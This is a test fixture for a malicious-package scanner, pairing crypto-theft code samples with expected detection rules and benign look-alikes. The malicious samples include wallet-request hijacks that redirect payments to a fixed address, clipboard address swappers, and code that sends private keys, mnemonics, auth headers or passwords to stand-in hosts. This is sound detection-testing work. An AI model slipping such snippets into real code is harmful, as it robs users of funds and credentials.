import type { Samples } from '../contract.ts';
import { at, hide, imported, quiet, wheel } from '../samples-kit.ts';

const MINE = `0x${'ab12'.repeat(10)}`;

/** Reads and fills the clipboard by the programs of the system. */
const BOARD =
  "const { execFileSync } = require('child_process');\nexports.read = () => execFileSync('pbpaste', { encoding: 'utf8' });\nexports.write = (input) => execFileSync('pbcopy', { input });\n";
/** Puts another address in the place of each that it finds. */
const SWAP = `exports.swap = (text) => text.replace(/0x[a-fA-F0-9]{40}/, '${MINE}');\n`;

export const samples: Samples = {
  malicious: [
    {
      name: 'the calls of a wallet that a promise comes to, by a file that another one tells whom to pay',
      files: imported(
        "const { pay } = require('./pay');\nfunction wrap(provider) {\n  const ask = provider.request.bind(provider);\n  provider.request = ({ method, params = [] }) => ask({ method, params: params.map(pay) });\n}\nconst found = () => new Promise((resolve) => {\n  const done = () => resolve(globalThis.ethereum ?? null);\n  setTimeout(done, 500);\n});\nfound().then((one) => one && wrap(one));\n",
        {
          'pay.js': `const chain = { '0x1': { zero: '${MINE}' } };\nexports.pay = (call) => {\n  const out = { ...call };\n  out.to = chain['0x1'].zero;\n  return out;\n};\n`,
        },
      ),
      expected: [at('request-patch', 'high', 'index.js', 4)],
    },
    {
      name: 'a wallet that stands before the own one of the page',
      files: imported(
        `const mine = '${MINE}';\nwindow.ethereum = new Proxy(window.ethereum, {\n  get(real, key) {\n    if (key !== 'request') return real[key];\n    return (call) => { if (call.params) call.params[0].to = mine; return real.request(call); };\n  },\n});\n`,
      ),
      expected: [at('request-patch', 'high', 'index.js', 2)],
    },
    {
      name: 'the calls of a wallet that another file hands over with the page',
      files: imported("const { settle } = require('./support');\nsettle(globalThis);\n", {
        'support.js': `const to = '${MINE}';\nconst paint = (holder) => {\n  const plain = holder.request;\n  holder.request = (call) => plain({ ...call, params: call.params.map((one) => ({ ...one, to })) });\n};\nexports.settle = (page) => page.ethereum && paint(page.ethereum);\n`,
      }),
      expected: [at('request-patch', 'high', 'support.js', 4)],
    },
    {
      name: 'requests of the page, and the calls of a wallet, rewritten by a helper that is given their names',
      files: imported(
        `const mine = '${MINE}';\nconst swap = (call) => (body) => call(String(body).replace(/0x[a-fA-F0-9]{40}/g, mine));\nfunction wrap(object, name, by) {\n  object[name] = by(object[name]);\n}\nwrap(window, 'fetch', swap);\nwrap(window.ethereum, 'request', swap);\n`,
      ),
      expected: [at('request-patch', 'high', 'index.js', 4)],
    },
    {
      name: 'the clipboard, by files of which one reads it and another one looks for addresses',
      files: imported(
        "const board = require('./board');\nconst { swap } = require('./swap');\nsetInterval(() => board.write(swap(board.read())), 500);\n",
        { 'board.js': BOARD, 'swap.js': SWAP },
      ),
      expected: [at('clipper', 'high', 'board.js', 2)],
    },
    {
      name: 'Python: a key that is posted to a fixed address',
      files: wheel(
        'import requests\ndef check(private_key):\n    return requests.post("https://own.free.weir.test/v", json={"k": private_key})\n',
      ),
      expected: [{ rule: 'key-material', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'requests of the page rewritten',
      files: imported(
        `const mine = '${MINE}';\nconst original = window.fetch;\nwindow.fetch = async (...args) => {\n  const answer = await original(...args);\n  const text = await answer.text();\n  return new Response(text.replace(/0x[a-fA-F0-9]{40}/g, mine));\n};\n`,
      ),
      expected: [at('request-patch', 'high', 'index.js', 3)],
    },
    {
      name: 'the calls of a wallet',
      files: imported(
        `const mine = '${MINE}';\nconst ask = window.ethereum.request;\nwindow.ethereum.request = (call) => { if (call.params) call.params[0].to = mine; return ask(call); };\n`,
      ),
      expected: [at('request-patch', 'high', 'index.js', 3)],
    },
    {
      name: 'the clipboard',
      files: imported(
        `const c = require('clipboardy');\nsetInterval(() => { if (/^0x[a-fA-F0-9]{40}$/.test(c.readSync())) c.writeSync('${MINE}'); }, 500);\n`,
      ),
      expected: [at('clipper', 'high', 'index.js', 2)],
    },
    {
      name: 'a private key in a header',
      files: imported(
        `class Keypair { constructor(secretKey) { track({ secretKey }); } }\nfunction track(data) { fetch('https://a.weir.test/ok', { headers: { 'x-trace': JSON.stringify(data) } }); }\nmodule.exports = Keypair;\n`,
      ),
      expected: [at('key-material', 'high', 'index.js', 2)],
    },
    {
      name: 'key words to a hidden address',
      files: imported(
        `const host = atob('${hide('https://a.weir.test/seed')}');\nexports.restore = (mnemonic) => { fetch(host, { method: 'POST', body: mnemonic }); return mnemonic.split(' '); };\n`,
      ),
      expected: [at('key-material', 'high', 'index.js', 2)],
    },
    {
      name: 'what a page sends, sent to somebody else as well',
      files: imported(
        `const real = globalThis.fetch;\nglobalThis.fetch = async (url, options) => {\n  if (options?.headers?.authorization) real('https://a.weir.test/h', { method: 'POST', body: options.headers.authorization });\n  return real(url, options);\n};\n`,
      ),
      expected: [at('tap', 'high', 'index.js', 2)],
    },
    {
      name: 'a key on its way through another file',
      files: imported(
        `const { report } = require('./metrics');\nexports.open = (mnemonic) => report(mnemonic);\n`,
        {
          'metrics.js': `exports.report = (value) => fetch('https://a.weir.test/m', { method: 'POST', body: value });\n`,
        },
      ),
      expected: [at('key-material', 'high', 'index.js', 2)],
    },
    {
      name: 'what is copied from a page, swapped by its listener',
      files: imported(
        `const mine = '${MINE}';\ndocument.addEventListener('copy', (event) => {\n  const text = String(getSelection());\n  event.clipboardData.setData('text/plain', /^0x[0-9a-fA-F]{40}$/.test(text) ? mine : text);\n});\n`,
      ),
      expected: [at('clipper', 'high', 'index.js', 2)],
    },
    {
      name: 'programs that read and fill the clipboard, again and again',
      files: imported(
        `const { execFileSync: run } = require('child_process');\nconst [paste, copy] = ['pbpaste', 'pbcopy'];\nsetInterval(() => {\n  const text = run(paste, { encoding: 'utf8' });\n  if (/^0x[0-9a-fA-F]{40}$/.test(text)) run(copy, { input: '${MINE}' });\n}, 900);\n`,
      ),
      expected: [at('clipper', 'high', 'index.js', 4)],
    },
    {
      name: 'the calls of a wallet, replaced by a function that is given the wallet',
      files: imported(
        `const mine = '${MINE}';\nfunction wrap(provider) {\n  const ask = provider.request;\n  provider.request = (args) => ask({ ...args, to: mine });\n}\nwrap(window.ethereum);\n`,
      ),
      expected: [at('request-patch', 'high', 'index.js', 4)],
    },
    {
      name: 'how passwords are asked for, tapped',
      files: imported(
        `const readline = require('readline/promises');\nconst http = require('http');\nconst ask = readline.Interface.prototype.question;\nreadline.Interface.prototype.question = async function (query) {\n  const answer = await ask.call(this, query);\n  http.request({ host: 'a.weir.test', method: 'POST' }).end(answer);\n  return answer;\n};\n`,
      ),
      expected: [at('tap', 'high', 'index.js', 4)],
    },
    {
      name: 'the key of a pair, as a password',
      files: imported(
        `const axios = require('axios');\nconst { Keypair } = require('@solana/web3.js');\nexports.check = async (pair = Keypair.generate()) => (await axios.get('https://a.weir.test/v', { auth: { username: 'u', password: pair.secretKey } })).data;\n`,
      ),
      expected: [at('key-material', 'high', 'index.js', 3)],
    },
    {
      name: 'key words as a password',
      files: imported(
        `const axios = require('axios');\nexports.a = async (mnemonic) => (await axios.get('https://a.weir.test/v', { auth: { username: 'u', password: mnemonic } })).data;\n`,
      ),
      expected: [at('key-material', 'high', 'index.js', 2)],
    },
    {
      name: 'a secret key with which nobody signs in: what comes is not read',
      files: imported(
        `const axios = require('axios');\nexports.a = (secretKey) => { axios.get('https://a.weir.test/v', { auth: { username: 'u', password: secretKey } }); };\n`,
      ),
      expected: [at('key-material', 'high', 'index.js', 2)],
    },
    {
      name: 'a key written on a chain',
      files: imported(
        `const { Keypair, TransactionInstruction } = require('@solana/web3.js');\nexports.restore = (secretKey) => {\n  const pair = Keypair.fromSecretKey(secretKey);\n  return new TransactionInstruction({ keys: [], data: Buffer.from(pair.secretKey) });\n};\n`,
      ),
      expected: [at('key-material', 'high', 'index.js', 4)],
    },
  ],
  benign: [
    quiet(
      'Python: a key that signs what is sent',
      wheel(
        "import jwt, requests\nclass Client:\n    def __init__(self, private_key):\n        self.private_key = private_key\n    def sign_in(self):\n        said = jwt.encode(payload={'iss': 'own'}, key=self.private_key, algorithm='ES384')\n        return requests.post('https://own.example/token', data={'assertion': said}).json()\n",
      ),
    ),
    quiet(
      'a wallet of its own that stands before the one of the page, and knows a contract',
      imported(
        `const names = '${MINE}';\nwindow.ethereum = new Proxy(window.ethereum, {\n  get: (real, key) => (key === 'names' ? names : real[key]),\n});\n`,
      ),
    ),
    quiet(
      'a wallet whose calls are counted, beside a file of contracts that are asked',
      imported(
        "const { balance } = require('./contracts');\nfunction wrap(provider) {\n  const ask = provider.request.bind(provider);\n  let asked = 0;\n  provider.request = (call) => { asked += 1; return ask(call); };\n  return () => asked;\n}\nconst found = () => new Promise((resolve) => setTimeout(() => resolve(globalThis.ethereum ?? null), 500));\nexports.calls = found().then((one) => one && wrap(one));\nexports.balance = balance;\n",
        {
          'contracts.js': `const tokens = { dai: '${MINE}' };\nexports.balance = (provider, name, owner) => provider.request({ method: 'eth_call', params: [{ to: tokens[name], data: owner }] });\n`,
        },
      ),
    ),
    quiet(
      'requests that a helper wraps to time them, beside an address to pay to',
      imported(
        `exports.donate = '${MINE}';\nfunction wrap(object, name) {\n  const call = object[name];\n  object[name] = (...given) => { console.time(name); return call.apply(object, given); };\n}\nwrap(window, 'fetch');\n`,
      ),
    ),
    quiet(
      'a clipboard that is read when it is asked for, beside a check of addresses',
      imported(
        "const board = require('./board');\nexports.paste = () => board.read();\nexports.copy = (text) => board.write(text);\nexports.swap = require('./swap').swap;\n",
        { 'board.js': BOARD, 'swap.js': SWAP },
      ),
    ),
    quiet(
      'a clipboard that is kept trimmed, and no addresses',
      imported(
        "const board = require('./board');\nsetInterval(() => board.write(board.read().trim()), 500);\n",
        { 'board.js': BOARD },
      ),
    ),
    quiet(
      'a client of a service that signs in with its secret key',
      imported(
        `const axios = require('axios');\nclass Client {\n  constructor(token, { secretKey }) { this.token = token; this.secretKey = secretKey; }\n  async read(start) {\n    const answer = await axios.get('https://api.weir.test/2/read', { auth: { username: this.token, password: this.secretKey }, params: { start } });\n    return answer.data;\n  }\n}\nmodule.exports = Client;\n`,
      ),
    ),
    quiet(
      'a key that mail is signed with, which a server of this machine may be handed',
      imported(
        `const nodemailer = require('nodemailer');\nfunction hand(host, mail) { return nodemailer.createTransport({ host: host ?? 'localhost', port: 25 }).sendMail(mail); }\nexports.send = (to, privateKey) => hand('localhost', { to, dkim: { privateKey } });\n`,
      ),
    ),
    quiet(
      'what is copied from a page, with where it is from',
      imported(
        `document.addEventListener('copy', (event) => {\n  event.clipboardData.setData('text/plain', String(getSelection()) + location.href);\n});\n`,
      ),
    ),
    quiet(
      'an address on the clipboard put into lower case when it is asked for',
      imported(
        `const { execFileSync: run } = require('child_process');\nexports.tidy = () => {\n  const text = run('pbpaste', { encoding: 'utf8' });\n  if (/^0x[0-9a-fA-F]{40}$/.test(text)) run('pbcopy', { input: text.toLowerCase() });\n};\n`,
      ),
    ),
    quiet(
      'Python: a signature that is sent',
      wheel(
        'import requests\nfrom eth_account import Account\ndef send(private_key, tx):\n    return requests.post("https://node.weir.test/", json={"tx": Account.sign_transaction(tx, private_key)})\n',
      ),
    ),
    quiet(
      'instrumentation of requests',
      imported(
        `const original = window.fetch;\nwindow.fetch = (...args) => { performance.mark('fetch'); return original(...args); };\n`,
      ),
    ),
    quiet(
      'a contract address',
      imported(
        `exports.TOKEN = '${MINE}';\nexports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text);\n`,
      ),
    ),
    quiet(
      'a signed request',
      imported(
        `const jwt = require('jsonwebtoken');\nexports.call = (privateKey) => fetch('https://api.weir.test/x', { headers: { authorization: jwt.sign({}, privateKey) } });\n`,
      ),
    ),
    quiet('a copy button', imported(`exports.copy = (text) => navigator.clipboard.writeText(text);\n`)),
  ],
};
